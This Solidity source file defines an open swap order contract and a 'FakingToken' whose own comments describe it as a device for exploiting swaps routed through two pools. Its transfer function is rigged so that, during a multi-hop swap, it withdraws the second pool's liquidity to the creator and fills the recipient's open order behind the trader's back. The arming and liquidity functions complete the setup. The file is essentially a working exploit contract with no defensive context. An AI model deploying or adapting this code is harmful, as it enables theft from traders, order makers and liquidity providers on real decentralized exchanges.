// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IToken {
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function approve(address spender, uint256 value) external returns (bool);
}

interface IPool {
    function token0() external view returns (address);
    function mint(address to, int24 low, int24 high, uint128 amount, bytes calldata data) external;
    function burn(int24 low, int24 high, uint128 amount) external;
    function collect(address to, int24 low, int24 high, uint128 most0, uint128 most1) external;
}

/// Somebody's order that anyone may fill: `paid` of one token for `given` of another.
contract OpenOrder {
    address private immutable owner;
    IToken private immutable given;
    uint256 private immutable givenAmount;
    IToken private immutable paid;
    uint256 private immutable paidAmount;

    constructor(address owner_, IToken given_, uint256 givenAmount_, IToken paid_, uint256 paidAmount_) {
        (owner, given, givenAmount, paid, paidAmount) = (owner_, given_, givenAmount_, paid_, paidAmount_);
    }

    function fill() external {
        paid.transferFrom(msg.sender, owner, paidAmount);
        given.transferFrom(owner, msg.sender, givenAmount);
    }
}

/// A token between two pools of trusted factories. While a swap crosses both, it withdraws the liquidity of the second as
/// the first pays it out, and fills an order of the recipient as it is paid to the second.
contract FakingToken {
    string public constant name = "Faking";
    string public constant symbol = "FAKE";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1e30;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    address private immutable creator = msg.sender;
    address private first;
    IPool private second;
    int24 private low;
    int24 private high;
    uint128 private liquidity;
    OpenOrder private order;

    constructor() {
        balanceOf[msg.sender] = totalSupply / 2;
        balanceOf[address(this)] = totalSupply / 2;
    }

    /// Adds liquidity to a pool of this token, out of what this contract holds.
    function add(IPool pool, int24 low_, int24 high_, uint128 amount) external {
        pool.mint(address(this), low_, high_, amount, "");
    }

    function arm(address first_, IPool second_, int24 low_, int24 high_, uint128 liquidity_, OpenOrder order_, IToken paid)
        external
    {
        (first, second, low, high, liquidity, order) = (first_, second_, low_, high_, liquidity_, order_);
        paid.approve(address(order_), type(uint256).max);
    }

    function uniswapV3MintCallback(uint256 amount0, uint256 amount1, bytes calldata data) external {
        address token0 = IPool(msg.sender).token0();
        (uint256 own, uint256 other) = token0 == address(this) ? (amount0, amount1) : (amount1, amount0);
        _move(address(this), msg.sender, own);
        if (other > 0) IToken(_other(msg.sender, token0)).transfer(msg.sender, other);
        data;
    }

    function _other(address pool, address token0) private view returns (address) {
        if (token0 != address(this)) return token0;
        (, bytes memory answer) = pool.staticcall(abi.encodeWithSignature("token1()"));
        return abi.decode(answer, (address));
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        if (first != address(0) && msg.sender == first) {
            second.burn(low, high, liquidity);
            second.collect(creator, low, high, type(uint128).max, type(uint128).max);
        }
        if (first != address(0) && to == address(second)) order.fill();
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) private {
        balanceOf[from] -= value;
        balanceOf[to] += value;
    }
}
